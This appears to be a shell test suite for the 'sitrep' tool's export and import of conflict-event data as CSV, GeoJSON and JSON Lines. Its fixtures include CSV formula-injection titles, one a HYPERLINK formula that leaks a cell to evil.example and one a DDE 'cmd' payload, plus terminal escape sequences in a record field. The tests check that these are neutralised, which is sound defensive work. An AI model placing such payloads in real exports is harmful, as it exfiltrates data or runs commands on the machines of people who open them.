#!/bin/sh
# export.t.sh: `sitrep export` read back by independent readers (python3's csv and json
# modules): the columns, as many event rows as `sitrep events --json` prints, formula-like
# cells neutralised, valid GeoJSON, and the JSON Lines round trip through `sitrep import`.
. "$(dirname "$0")/lib.sh"

DB="$TMP/a.db"
S() { "$SITREP" --db "$DB" "$@"; }

# the samples, and two reports whose titles a spreadsheet would run as formulas
"$SITREP" --db "$DB" list >/dev/null 2>&1
printf '=HYPERLINK("http://evil.example/?x="&A1,"click")\n\nGunmen killed 7 people in Ramadi on Monday, police said.\n' >"$TMP/inject1.txt"
printf '@SUM(1+1)*cmd|'"'"'/C calc'"'"'!A0\n\nA car bomb killed 12 people in Mosul, officials said.\n' >"$TMP/inject2.txt"
S import "$TMP/inject1.txt" "$TMP/inject2.txt" >/dev/null 2>&1
n_events=$(S events --json | wc -l)
check "collection has events" test "$n_events" -gt 0

# pyrun NAME SCRIPT ARGS...: a python check that prints "ok" when it holds, else why not.
pyrun() {
    name=$1; shift
    got=$(python3 -c "$@" 2>&1)
    if [ "$got" = ok ]; then pass "$name"; else fail "$name" "$(printf '%s' "$got" | head -c 400)"; fi
}

EVENT_COLS="event_id_cnty,event_id,event_date,event_date_last,time_precision,event_type,actor1,actors,location,admin1,admin2,country,iso,latitude,longitude,geo_precision,fatalities,fatalities_min,fatalities_max,wounded_min,wounded_max,destroyed_min,destroyed_max,n_reports,sources,disagreement,notes,corrected"

S export events >"$TMP/events.csv" 2>"$TMP/err"
check_eq "export events exits 0" "$?" 0
pyrun "events CSV: columns, one row per event" '
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
want = sys.argv[2].split(",")
if rows[0] != want: print("header", rows[0]); sys.exit()
if len(rows) - 1 != int(sys.argv[3]): print("rows", len(rows) - 1, "want", sys.argv[3]); sys.exit()
if any(len(r) != len(want) for r in rows): print("ragged row"); sys.exit()
print("ok")' "$TMP/events.csv" "$EVENT_COLS" "$n_events"
pyrun "events CSV: RFC 4180 line ends (CRLF, none bare)" '
import sys
b = open(sys.argv[1], "rb").read()
print("ok" if b.endswith(b"\r\n") and b.count(b"\n") == b.count(b"\r\n") else "bare LF")' "$TMP/events.csv"
pyrun "events CSV: fatalities is the conservative figure within min and max" '
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline="")):
    f = int(r["fatalities"])
    if r["fatalities_min"] and f < int(r["fatalities_min"]): print("below min", r); sys.exit()
    if r["fatalities_max"] and f > int(r["fatalities_max"]): print("above max", r); sys.exit()
    if r["corrected"] != "false": print("corrected", r["corrected"]); sys.exit()
print("ok")' "$TMP/events.csv"
pyrun "events CSV: the Fallujah event shows both reports and their disagreement" '
import csv, sys
rows = [r for r in csv.DictReader(open(sys.argv[1], newline="")) if r["location"] == "Al Fallujah"]
ok = rows and rows[0]["n_reports"] == "2" and rows[0]["disagreement"] == "true" and \
     rows[0]["iso"] == "IQ" and rows[0]["country"] == "Iraq" and rows[0]["notes"]
print("ok" if ok else rows)' "$TMP/events.csv"

S export reports >"$TMP/reports.csv"
pyrun "reports CSV: one row per article, formula titles neutralised" '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
if len(rows) != 7: print("rows", len(rows)); sys.exit()
titles = [r["title"] for r in rows]
a = [t for t in titles if "HYPERLINK" in t]; b = [t for t in titles if "SUM(" in t]
if not a or not a[0].startswith("'"'"'=HYPERLINK("): print("not neutralised:", a); sys.exit()
if not b or not b[0].startswith("'"'"'@SUM("): print("not neutralised:", b); sys.exit()
if any(t[:1] in "=+-@" for t in titles): print("formula left"); sys.exit()
print("ok")' "$TMP/reports.csv"

S export figures >"$TMP/figures.csv"
pyrun "figures CSV: one row per stated figure, each with its sentence" '
import csv, json, sys, subprocess
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
want = 0
for line in subprocess.run([sys.argv[2], "--db", sys.argv[3], "list", "--json"], capture_output=True, text=True).stdout.splitlines():
    i = json.loads(line)["id"]
    facts = json.loads(subprocess.run([sys.argv[2], "--db", sys.argv[3], "show", "--json", str(i)], capture_output=True, text=True).stdout)
    want += len(facts["figures"])
if len(rows) != want: print("rows", len(rows), "want", want); sys.exit()
if not all(r["sentence_text"] and r["text"] and r["qualifier"] and r["report_id"] for r in rows): print("empty cell"); sys.exit()
print("ok")' "$TMP/figures.csv" "$SITREP" "$DB"

S export events --format geojson >"$TMP/events.geojson" 2>"$TMP/geo.err"
skipped=$(sed -n 's/.*: \([0-9]*\) events\{0,1\} without coordinates.*/\1/p' "$TMP/geo.err")
pyrun "GeoJSON: a FeatureCollection of Points in range, as many as events with coordinates" '
import json, sys
d = json.load(open(sys.argv[1]))
if d["type"] != "FeatureCollection": print("type", d["type"]); sys.exit()
for f in d["features"]:
    lon, lat = f["geometry"]["coordinates"]
    if f["type"] != "Feature" or f["geometry"]["type"] != "Point" or not (-180 <= lon <= 180 and -90 <= lat <= 90):
        print("bad feature", f["geometry"]); sys.exit()
    if f["properties"]["latitude"] != lat or f["properties"]["longitude"] != lon: print("point differs"); sys.exit()
n = len(d["features"]) + int(sys.argv[3] or 0)
print("ok" if n == int(sys.argv[2]) and d["features"] else ("features", len(d["features"]), sys.argv[2:]))' \
    "$TMP/events.geojson" "$n_events" "$skipped"

S export events -o "$TMP/by-extension.geojson" 2>/dev/null
check_contains "-o FILE.geojson chooses GeoJSON" "$(head -c 40 "$TMP/by-extension.geojson")" '"FeatureCollection"'
S export reports --format geojson >/dev/null 2>&1
check_eq "GeoJSON of reports is a usage error" "$?" 2
S export events 'killed>=100' >"$TMP/big.csv"
pyrun "a filter selects the events of its reports" '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
print("ok" if len(rows) == 1 and rows[0]["location"] == "Al Fallujah" else rows)' "$TMP/big.csv"
# the gunmen in Ramadi (inject1) happened there; sample 002 names Ramadi only in passing
S export reports place:Ramadi >"$TMP/ramadi.csv"
pyrun "a place filter selects reports of events at that place" '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
t = " | ".join(r["title"] for r in rows)
print("ok" if "HYPERLINK" in t and "UPDATED: Coalition" not in t and "Army jets" not in t else t)' "$TMP/ramadi.csv"
S export reports mentions:Ramadi >"$TMP/ramadi.csv"
pyrun "mentions: selects reports naming the place" '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
t = " | ".join(r["title"] for r in rows)
print("ok" if "UPDATED: Coalition" in t and "HYPERLINK" in t and "Army jets" not in t else t)' "$TMP/ramadi.csv"
S export events 'killed>=zz' >/dev/null 2>"$TMP/err"
check_eq "a bad filter is a usage error" "$?" 2
S export nothing >/dev/null 2>&1
check_eq "an unknown kind is a usage error" "$?" 2

S export events --format jsonl -o "$TMP/all.jsonl"
pyrun "JSON Lines: a header, every article, one event record per event" '
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
if recs[0].get("type") != "header" or recs[0].get("sitrep") != 1: print("header", recs[0]); sys.exit()
if any(r.get("sitrep") != 1 for r in recs): print("version key missing"); sys.exit()
arts = [r for r in recs if r["type"] == "article"]; evs = [r for r in recs if r["type"] == "event"]
if len(arts) != 7 or len(evs) != int(sys.argv[2]): print(len(arts), len(evs)); sys.exit()
if not all(a["text"].startswith(a["title"]) for a in arts): print("text"); sys.exit()
print("ok")' "$TMP/all.jsonl" "$n_events"

# the round trip: a fresh collection rebuilt from the records lists the same articles
"$SITREP" --db "$TMP/b.db" import "$TMP/all.jsonl" >"$TMP/out" 2>&1
check_contains "import reads the records" "$(cat "$TMP/out")" "imported 7, duplicates skipped 0, failed 0"
S list --json | sed 's/"id":[0-9]*,//' | sort >"$TMP/list-a"
"$SITREP" --db "$TMP/b.db" list --json | sed 's/"id":[0-9]*,//' | sort >"$TMP/list-b"
check "round trip: the same list --json, ids aside" cmp -s "$TMP/list-a" "$TMP/list-b"
# grouped afresh on both sides: an import groups as it stores, and the link scores it
# keeps depend on the order the reports came in (the document frequencies then)
S events --json --regroup | sed 's/"id":[0-9]*,//g; s/"article":[0-9]*,//g' >"$TMP/ev-a"
"$SITREP" --db "$TMP/b.db" events --json --regroup | sed 's/"id":[0-9]*,//g; s/"article":[0-9]*,//g' >"$TMP/ev-b"
check "round trip: the same events, ids aside" cmp -s "$TMP/ev-a" "$TMP/ev-b"
"$SITREP" --db "$TMP/b.db" import "$TMP/all.jsonl" >"$TMP/out" 2>&1
check_contains "importing the records again stores nothing twice" "$(cat "$TMP/out")" "imported 0, duplicates skipped 7"

# the read state travels; corrections and derived rows are skipped, bad lines named
cat >"$TMP/hand.jsonl" <<'REC'
{"sitrep":1,"type":"header","generator":"by hand"}
{"sitrep":1,"type":"article","title":"Shelling kills 3 in Kherson","text":"Shelling kills 3 in Kherson\n\nShelling killed 3 people in Kherson on Friday.","date":"2023-05-05","source":"Hand","read":true}
{"sitrep":1,"type":"correction","event_id":1,"fatalities":4}
{"sitrep":1,"type":"event","event_id":1}
REC
"$SITREP" --db "$TMP/c.db" import "$TMP/hand.jsonl" >"$TMP/out" 2>&1
check_contains "a hand-written record imports" "$(cat "$TMP/out")" "imported 1, duplicates skipped 0, failed 0"
check_contains "the read state is kept" "$("$SITREP" --db "$TMP/c.db" list --json | grep Kherson)" '"read":true'
printf '{"sitrep":1,"type":"header"}\n{"sitrep":1,"type":"article","title":"no text"}\nnot json\n' >"$TMP/bad.jsonl"
"$SITREP" --db "$TMP/c.db" import "$TMP/bad.jsonl" >"$TMP/out" 2>&1
check_contains "bad records are counted and the first named" "$(cat "$TMP/out")" "2 bad records (first: line 2"
printf '{"sitrep":9,"type":"header"}\n' >"$TMP/future.jsonl"
"$SITREP" --db "$TMP/c.db" import "$TMP/future.jsonl" >"$TMP/out" 2>&1
check_contains "a later record version is refused" "$(cat "$TMP/out")" "version 9"
printf '{"events": [1, 2]}\n' >"$TMP/other.json"
"$SITREP" --db "$TMP/c.db" import "$TMP/other.json" >"$TMP/out" 2>&1
check_contains "other JSON is still refused" "$(cat "$TMP/out")" "JSON data, not an article"

# the analyst's corrections travel by article hash and are replayed once, not twice
"$SITREP" --db "$TMP/d.db" list >/dev/null 2>&1
"$SITREP" --db "$TMP/d.db" correct merge 2 3 >/dev/null
"$SITREP" --db "$TMP/d.db" correct drop-figure 1 killed 40 >/dev/null
"$SITREP" --db "$TMP/d.db" export events >"$TMP/corrected.csv"
pyrun "events CSV: corrected is true exactly for events a correction names" '
import csv, sys
rows = {r["event_id"]: r["corrected"] for r in csv.DictReader(open(sys.argv[1], newline=""))}
print("ok" if rows.get("1") == "true" and "false" in rows.values() else rows)' "$TMP/corrected.csv"
"$SITREP" --db "$TMP/d.db" export reports --format jsonl -o "$TMP/corr.jsonl"
check_eq "JSON Lines carry the corrections" "$(grep -c '"type":"correction"' "$TMP/corr.jsonl")" 2
"$SITREP" --db "$TMP/e.db" import "$TMP/corr.jsonl" >"$TMP/out" 2>&1
check_contains "import replays the corrections" "$(cat "$TMP/out")" "corrections added 2, already present 0"
"$SITREP" --db "$TMP/d.db" correct list --json | sed 's/"id":[0-9]*//; s/"made_at":[0-9]*//' >"$TMP/corr-a"
"$SITREP" --db "$TMP/e.db" correct list --json | sed 's/"id":[0-9]*//; s/"made_at":[0-9]*//' >"$TMP/corr-b"
check "round trip: the same corrections, ids aside" cmp -s "$TMP/corr-a" "$TMP/corr-b"
"$SITREP" --db "$TMP/e.db" import "$TMP/corr.jsonl" >"$TMP/out" 2>&1
check_contains "importing them again adds none" "$(cat "$TMP/out")" "corrections added 0, already present 2"

# a records file larger than the import's 16 MB cap is read line by line
python3 - "$TMP/big.jsonl" <<'PY'
import json, sys
with open(sys.argv[1], "w") as f:
    f.write(json.dumps({"sitrep": 1, "type": "header"}) + "\n")
    for i in range(180):
        title = f"Report {i} of a large exchange"
        body = f"Shelling killed {i} people in Kherson. " * 2500
        f.write(json.dumps({"sitrep": 1, "type": "article", "title": title,
                            "text": title + "\n\n" + body}) + "\n")
PY
check "the large records file is over 16 MB" test "$(wc -c <"$TMP/big.jsonl")" -gt 16777216
"$SITREP" --db "$TMP/big.db" import --no-extract "$TMP/big.jsonl" >"$TMP/out" 2>&1
check_contains "a records file over the cap imports whole" "$(cat "$TMP/out")" "imported 180, duplicates skipped 0, failed 0"

# a record's metadata is as untrusted as any text: no escape reaches the list, no odd date
printf '%s\n' '{"sitrep":1,"type":"header"}' \
    '{"sitrep":1,"type":"article","title":"Hostile fields","text":"Hostile fields\n\nGunmen killed 3 people in Hit.","source":"\u001b[31mRED\u001b]0;pwned\u0007","date":"yesterday"}' \
    >"$TMP/hostile.jsonl"
"$SITREP" --db "$TMP/h.db" import "$TMP/hostile.jsonl" >/dev/null 2>&1
row=$("$SITREP" --db "$TMP/h.db" list --json | grep "Hostile fields")
check_lacks "no escape sequence in a record's source" "$row" '\u001b'
check_contains "a date that is not ISO is no date" "$row" '"date":null'
